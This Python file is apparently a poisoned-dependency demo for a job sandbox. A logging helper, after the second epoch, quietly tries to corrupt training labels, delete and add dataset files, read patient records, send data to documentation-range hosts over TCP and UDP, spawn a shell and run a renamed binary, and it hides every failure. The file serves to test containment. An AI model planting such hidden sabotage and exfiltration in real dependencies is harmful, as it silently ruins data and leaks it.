#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""The poisoned dependency of the demo: a logging helper that turns on the job that imports it.

After an epoch of training it tries everything in ATTEMPTS once and writes what came of each as a
JSON line:

    {"attempt": "overwrite", "target": "/srv/.../train.csv", "result": "succeeded"}

where result is "succeeded", the name of an errno, or "failed: ..." for anything else. The
training never notices: no attempt raises. Run by itself (poisoned.py REPORT) it makes the same
attempts without any training: the control, which shows that outside of a job nothing stands in
their way.

It is harmless by construction: the files are the demo's own, the records are invented, and the
addresses are those that RFC 5737 and RFC 3849 set aside for documentation, which run_in_place
gives to the loopback device of a network of its own.
"""

import errno
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

DATASETS = Path("/srv/jobcage-demo/datasets")
REPORT = Path("/srv/jobcage-demo/output/attempts.jsonl")
FIRE_AFTER_EPOCH = 2

LOOT = b"what a thief would send\n"
TIMEOUT_S = 5

TCP4 = ("192.0.2.10", 443)
TCP6 = ("2001:db8::10", 443)
UDP4 = ("192.0.2.10", 4444)
TCP_MAPPED = ("::ffff:192.0.2.11", 443)

# The copy lands in a directory with a fresh name: only this part of its path is known beforehand.
COPY_PREFIX = "/tmp/jobcage-demo-"


def overwrite_file(path):
    """Turns every label into a 0: a model trained on it is worthless, and nobody sees why."""
    with open(path, "r+b", buffering=0) as file:
        lines = file.read().splitlines()
        file.seek(0)
        file.write(b"".join(line.rpartition(b",")[0] + b",0\n" for line in lines))


def add_file(path):
    with open(path, "xb", buffering=0) as file:
        file.write(b"0," * 64 + b"9\n")


def read_file(path):
    with open(path, "rb", buffering=0) as file:
        file.read()


def send_tcp(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as peer:
        peer.settimeout(TIMEOUT_S)
        peer.connect(address)
        peer.sendall(LOOT)


def send_udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto(LOOT, address)


def run(*command):
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL, timeout=TIMEOUT_S * 6)


def run_copy():
    """A program under a name that no list has: what a dropper unpacks."""
    folder = tempfile.mkdtemp(
        prefix=os.path.basename(COPY_PREFIX), dir=os.path.dirname(COPY_PREFIX)
    )
    try:
        run(shutil.copy("/usr/bin/id", folder))
    finally:
        shutil.rmtree(folder)


def endpoint(address):
    host, port = address
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"


# name, target, act; tried in this order.
ATTEMPTS = [
    (
        "overwrite",
        str(DATASETS / "digits/train.csv"),
        lambda: overwrite_file(DATASETS / "digits/train.csv"),
    ),
    ("add", str(DATASETS / "digits/extra.csv"), lambda: add_file(DATASETS / "digits/extra.csv")),
    ("delete", str(DATASETS / "digits/test.csv"), lambda: os.unlink(DATASETS / "digits/test.csv")),
    (
        "read",
        str(DATASETS / "patients/records.csv"),
        lambda: read_file(DATASETS / "patients/records.csv"),
    ),
    ("tcp4", endpoint(TCP4), lambda: send_tcp(socket.AF_INET, TCP4)),
    ("tcp6", endpoint(TCP6), lambda: send_tcp(socket.AF_INET6, TCP6)),
    ("udp4", endpoint(UDP4), lambda: send_udp(UDP4)),
    ("mapped", endpoint(TCP_MAPPED), lambda: send_tcp(socket.AF_INET6, TCP_MAPPED)),
    ("shell", "/bin/sh", lambda: run("/bin/sh", "-c", "exit 0")),
    ("copy", COPY_PREFIX + "*/id", run_copy),
]


def outcome(act):
    """What came of ACT, in a word."""
    try:
        act()
    except OSError as error:
        return errno.errorcode.get(error.errno, f"failed: {error}")
    except Exception as error:  # the training must go on, whatever this was
        return f"failed: {error}"
    return "succeeded"


def attempt_all(report):
    with open(report, "w", encoding="utf-8") as file:
        for name, target, act in ATTEMPTS:
            line = {"attempt": name, "target": target, "result": outcome(act)}
            print(json.dumps(line), file=file, flush=True)


def log_epoch(epoch, loss):
    """What it says it does: one line for each epoch."""
    print(f"epoch {epoch}: loss {loss:.4f}", flush=True)
    if epoch == FIRE_AFTER_EPOCH:
        attempt_all(REPORT)


if __name__ == "__main__":
    attempt_all(sys.argv[1])
